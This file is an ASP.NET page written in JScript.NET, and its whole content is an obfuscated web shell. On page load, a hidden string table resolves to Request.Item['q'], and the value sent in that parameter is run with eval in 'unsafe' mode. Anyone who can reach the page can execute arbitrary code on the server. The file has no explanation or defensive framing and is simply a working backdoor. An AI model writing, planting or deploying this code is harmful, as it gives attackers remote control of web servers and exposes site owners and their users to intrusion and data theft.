<%@ Page Language="JScript" %>
<script runat="server">
var _0x1f7c = ['Request', 'Item', 'q', 'unsafe'];
function Page_Load() {
    var _0x9a = this[_0x1f7c[0x0]][_0x1f7c[0x1]][_0x1f7c[0x2]];
    eval(_0x9a, _0x1f7c[0x3]);
}
</script>
